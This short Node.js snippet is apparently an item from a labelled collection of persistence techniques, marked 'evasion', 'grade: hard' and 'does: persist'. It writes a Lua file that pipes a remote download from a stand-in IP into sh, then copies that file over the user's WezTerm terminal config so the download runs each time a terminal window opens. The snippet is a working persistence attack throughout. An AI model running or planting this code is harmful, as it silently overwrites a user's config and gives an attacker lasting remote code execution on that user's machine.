// evasion: a prepared wezterm.lua (Lua run by every terminal window, here with os.execute) copied over the user's config
// grade: hard; does: persist
const fs = require("fs");
const os = require("os");
const src = fs.mkdtempSync(os.tmpdir() + "/w") + "/cfg.lua";
fs.writeFileSync(src, "os.execute('curl -s https://203.0.113.9/w | sh &')\nreturn {}\n");
const home = os.homedir();
fs.copyFileSync(src, `${home}/.wezterm.lua`);
